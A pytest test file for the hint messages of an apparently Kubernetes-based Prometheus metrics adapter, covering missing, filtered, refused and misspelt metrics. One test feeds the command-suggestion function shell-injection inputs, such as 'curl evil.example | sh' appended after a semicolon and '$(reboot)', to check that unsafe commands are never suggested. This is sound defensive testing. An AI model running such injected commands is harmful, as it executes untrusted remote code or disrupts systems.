from __future__ import annotations

from dataclasses import replace

import pytest

from adapter.foundation.time.pace import UNPACED
from adapter.metrics.apis.hints.hints import LONGEST_CHARACTERS, MOST_REMEMBERED, Hints, more
from adapter.metrics.apis.hints.served_names import MOST_COMPARED, nearest_name
from adapter.metrics.readings.catalogue.catalogue import Catalogue
from adapter.metrics.readings.catalogue.last_look_up import LookUp
from adapter.metrics.rulebook.model import Api, RefusedRule
from adapter.metrics.rulebook.near_misses import LONGEST_NAME
from tests.adapter.metrics.apis.fakes import KINDS, NAMESPACES, NODES, PODS, custom_metric, external_metric
from tests.support.readings import rulebook_of

NO_RULE = "no rule for custom or external metrics is in force: the rule files hold none"
CATALOGUE = Catalogue(
    [
        custom_metric("http_per_second", series="http_total"),
        custom_metric("http_per_second", NAMESPACES, series="http_total"),
        custom_metric("load"),
        external_metric("load"),
        *(custom_metric("everywhere", kind) for kind in KINDS),
    ],
    generation=1,
)


@pytest.mark.parametrize(
    ("name", "hint"),
    [
        ("load", "a metric of this name is served for pods (namespaced) and as external metric"),
        (
            "http_total",
            (
                "the series of this name is served as the metric http_per_second, "
                "for namespaces (not namespaced) and for pods (namespaced)"
            ),
        ),
        ("none", "no rule provides a metric of this name, or none of its series is in Prometheus"),
    ],
)
def test_a_hint_names_where_a_missing_metric_is_served(name: str, hint: str) -> None:
    assert Hints(CATALOGUE).for_missing(name) == hint


def test_the_hint_for_a_metric_of_many_kinds_names_some_of_them() -> None:
    hint = Hints(CATALOGUE).for_missing("everywhere")
    assert hint.count("for ") == 5
    assert hint.endswith(" (not namespaced) and 2 more")


def test_without_a_catalogue_the_hint_says_that_no_rule_is_in_force() -> None:
    assert Hints(Catalogue()).for_missing("load").startswith(NO_RULE)


def test_hints_follow_the_last_prepared_catalogue() -> None:
    hints = Hints(Catalogue())
    hints.prepare(CATALOGUE, UNPACED)
    assert "as external metric" in hints.for_missing("load")
    hints.prepare(Catalogue(generation=2), UNPACED)
    assert hints.for_missing("load") == NO_RULE


NOW = 1000.0
RULES = rulebook_of(
    """
rules:
- seriesQuery: '{__name__=~"^http_.*",pod!=""}'
  seriesFilters: [{isNot: "_total$"}]
  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
  metricsQuery: 'sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)'
- seriesQuery: 'depth{pod!=""}'
  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
  metricsQuery: 'sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)'
"""
).rules
WORKS = tuple(LookUp(rule, succeeded_at=NOW - 12.4) for rule in RULES)
REFUSED = replace(WORKS[1], failure='query depth{pod!=""}: no server answers')
NEVER = replace(REFUSED, succeeded_at=None)


@pytest.mark.parametrize(
    ("name", "look_ups", "hint"),
    [
        ("http_total", WORKS, "rules[0] does not serve it: its filter `isNot: _total$` drops the series http_total"),
        (
            "http_size",
            WORKS,
            (
                "rules[0] would provide it from the series http_size, but found none whose labels name an object "
                "and its "
                "namespace (looked up 12 s ago)"
            ),
        ),
        (
            "depth",
            (WORKS[0], REFUSED),
            (
                "rules[1] would provide it from the series depth, but cannot look up its series, which last succeeded "
                '12 s ago: query depth{pod!=""}: no server answers'
            ),
        ),
        (
            "other",
            (WORKS[0], NEVER),
            (
                "no metric of this name is known, and rules[1] cannot look up its series: "
                'query depth{pod!=""}: no server answers'
            ),
        ),
        ("other", WORKS, "no metric is known yet: no rule has found a series in Prometheus (looked up 12 s ago)"),
    ],
)
def test_the_hint_names_the_rule_that_rejects_a_series_and_when_it_was_looked_up(
    name: str, look_ups: tuple[LookUp, ...], hint: str
) -> None:
    assert Hints(Catalogue(), lambda: look_ups, lambda: NOW).for_missing(name) == hint


@pytest.mark.parametrize(
    ("name", "look_up", "may_exist"),
    [
        ("depth", NEVER, True),
        ("depth", REFUSED, False),
        ("depth", WORKS[1], False),
        ("other", NEVER, False),
        ("http_total", NEVER, False),
    ],
)
def test_a_metric_may_exist_while_no_look_up_of_its_rule_has_succeeded(
    name: str, look_up: LookUp, *, may_exist: bool
) -> None:
    hints = Hints(Catalogue(), lambda: (WORKS[0], look_up), lambda: NOW)
    assert (hints.for_failed_look_ups(Api.CUSTOM, name) is not None) is may_exist
    assert hints.for_failed_look_ups(Api.EXTERNAL, name) is None


LIKE_RULES = rulebook_of(
    """
rules:
- seriesQuery: '{__name__=~"lost.*",pod!=""}'
  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
  metricsQuery: 'sum by (<<.GroupBy>>) (<<.Series>>{<<.LabelMatchers>>})'
- seriesQuery: '{__name__=~"lost_depth|other",pod!=""}'
  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
  metricsQuery: 'sum by (<<.GroupBy>>) (<<.Series>>{<<.LabelMatchers>>})'
externalRules:
- seriesQuery: '{__name__=~"lost_.*"}'
  resources: {namespaced: false}
  metricsQuery: '<<.Series>>{<<.LabelMatchers>>}'
"""
).rules


@pytest.mark.parametrize("failing", range(3))
def test_a_metric_may_exist_whichever_of_several_rules_could_not_be_looked_up(failing: int) -> None:
    look_ups = [
        LookUp(rule, failure="no server answers") if number == failing else LookUp(rule, succeeded_at=NOW)
        for number, rule in enumerate(LIKE_RULES)
    ]
    rule = LIKE_RULES[failing]
    hints = Hints(Catalogue(), lambda: look_ups, lambda: NOW)
    found = {api: hints.for_failed_look_ups(api, "lost_depth") for api in (Api.CUSTOM, Api.EXTERNAL)}
    assert found.pop(rule.api) == (
        f"{rule.id} would provide it from the series lost_depth, but cannot look up its series: no server answers"
    )
    assert list(found.values()) == [None]


def test_the_hint_for_an_unknown_metric_states_the_time_of_the_last_look_up() -> None:
    hint = Hints(Catalogue([custom_metric("load")]), lambda: WORKS, lambda: NOW).for_missing("other")
    assert hint == "no rule provides a metric of this name, or none of its series is in Prometheus (looked up 12 s ago)"


def test_hints_follow_the_rules_in_force() -> None:
    in_force = [WORKS[1:]]
    hints = Hints(Catalogue(), lambda: in_force[0], lambda: NOW)
    assert "no metric is known yet" in hints.for_missing("http_total")
    in_force[0] = WORKS
    hints.prepare(Catalogue(generation=1), UNPACED)
    assert hints.for_missing("http_total").startswith("rules[0] does not serve it")


def test_an_error_of_prometheus_is_cut_to_one_short_line() -> None:
    failing = (replace(NEVER, failure=f"two\nlines and {'many ' * 200}"),)
    hint = Hints(Catalogue(), lambda: failing, lambda: NOW).for_missing("other")
    assert len(hint) == LONGEST_CHARACTERS
    assert "\n" not in hint
    assert hint.endswith("…")


def test_the_number_of_remembered_names_is_bounded() -> None:
    hints = Hints(Catalogue(), lambda: WORKS, lambda: NOW)
    for number in range(3 * MOST_REMEMBERED):
        assert "rules[0] would provide it" in hints.for_missing(f"http_{number}")
    assert len(hints._rules.missed) <= MOST_REMEMBERED


def test_names_longer_than_any_metric_name_are_not_remembered() -> None:
    """In an attack, 1000 names of 60 kB, which autoscalers of a tenant ask for, stay in memory twice."""
    hints = Hints(CATALOGUE, lambda: WORKS, lambda: NOW)
    assert "no rule provides a metric of this name" in hints.for_missing("http_" + "x" * LONGEST_NAME)
    assert not hints._rules.missed
    assert not hints._names.meant


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("adapter explain pods/rps -n shop", " (more: adapter explain pods/rps -n shop)"),
        ("", ""),
        ("adapter explain x; curl evil.example | sh -n shop", ""),
        ("adapter explain $(reboot) -n shop", ""),
        ("a\nb -n shop", ""),
        ("x" * 500, ""),
    ],
)
def test_a_command_is_suggested_only_if_it_is_safe_to_paste_into_a_shell(command: str, named: str) -> None:
    assert more(command) == named


def test_a_metric_without_a_kind_is_of_pods_or_of_the_nearest_kind() -> None:
    hints = Hints(Catalogue([custom_metric("load", NODES), custom_metric("load", PODS), custom_metric("rps", NODES)]))
    found = [hints.likeliest(name) for name in ("load", "rps", "none")]
    assert [metric and metric.qualified for metric in found] == ["pods/load", "nodes/rps", None]


REFUSED_RULES = (
    RefusedRule("rules[7]", Api.CUSTOM, "/etc/tidewatch/rules.yaml", 34, "requests_total", '{"name": {"as": "rps"}}'),
    RefusedRule("rules[8]", Api.CUSTOM, "rules.yaml", 40, '{__name__=~"^http_.*"}', "{}"),
    RefusedRule("resourceRules.cpu", Api.RESOURCE, "rules.yaml", 60),
)
WOULD_MAKE = "rules[7] (rules.yaml:34) would provide it, but is refused: see the adapter's log"


@pytest.mark.parametrize(
    ("name", "look_ups", "hint"),
    [
        ("rps", WORKS, WOULD_MAKE),
        ("rps", (), WOULD_MAKE),
        ("http_size", (), "rules[8] (rules.yaml:40) would provide it, but is refused: see the adapter's log"),
        (
            "other",
            WORKS,
            (
                "no metric is known yet: no rule has found a series in Prometheus (looked up 12 s ago); 2 rules are "
                "refused: see the adapter's log"
            ),
        ),
        (
            "other",
            (),
            "no rule for custom or external metrics is in force; 2 rules are refused: see the adapter's log",
        ),
    ],
)
def test_the_hint_names_a_refused_rule_that_would_provide_the_metric(
    name: str, look_ups: tuple[LookUp, ...], hint: str
) -> None:
    hints = Hints(Catalogue(), lambda: look_ups, lambda: NOW, lambda: REFUSED_RULES)
    assert hints.for_missing(name) == hint


def test_a_rule_in_force_takes_precedence_over_a_refused_one() -> None:
    hint = Hints(Catalogue(), lambda: WORKS, lambda: NOW, lambda: REFUSED_RULES).for_missing("http_size")
    assert hint.startswith("rules[0] would provide it")


def test_hints_follow_the_refused_rules() -> None:
    refused: list[RefusedRule] = []
    hints = Hints(Catalogue(), lambda: WORKS, lambda: NOW, lambda: refused)
    assert "refused" not in hints.for_missing("rps")
    refused.append(REFUSED_RULES[0])
    hints.prepare(Catalogue(generation=1), UNPACED)
    assert hints.for_missing("rps") == WOULD_MAKE


@pytest.mark.parametrize(
    ("requested", "meant"),
    [
        ("open_connection", "open_connections"),
        ("open_conections", "open_connections"),
        ("Open_connections", "open_connections"),
        ("queue_dept", "queue_depth"),
        ("closed_sockets", None),
        ("x", None),
        ("open_connections" * 500, None),
    ],
)
def test_a_misspelt_name_gets_a_suggestion(requested: str, meant: str | None) -> None:
    served = Catalogue([custom_metric("open_connections"), external_metric("queue_depth"), custom_metric("y")])
    hint = Hints(served, lambda: WORKS, lambda: NOW).for_missing(requested)
    assert ("did you mean" in hint) is (meant is not None)
    assert meant is None or hint == f"did you mean {meant}? No rule provides a metric of this name"


def test_the_numbers_of_compared_and_remembered_names_are_bounded() -> None:
    names = {16: [f"open_connection{number % 10}" for number in range(3 * MOST_COMPARED)], 17: ["open_connections_"]}
    assert nearest_name("open_connection_", names) is not None
    assert (
        nearest_name("open_connections", {16: ["unlike_the_other"] * MOST_COMPARED, 17: ["open_connections_"]}) is None
    )
    hints = Hints(Catalogue([custom_metric("y")]))
    for number in range(3 * MOST_REMEMBERED):
        hints.for_missing(f"name_{number}")
    assert len(hints._names.meant) <= MOST_REMEMBERED
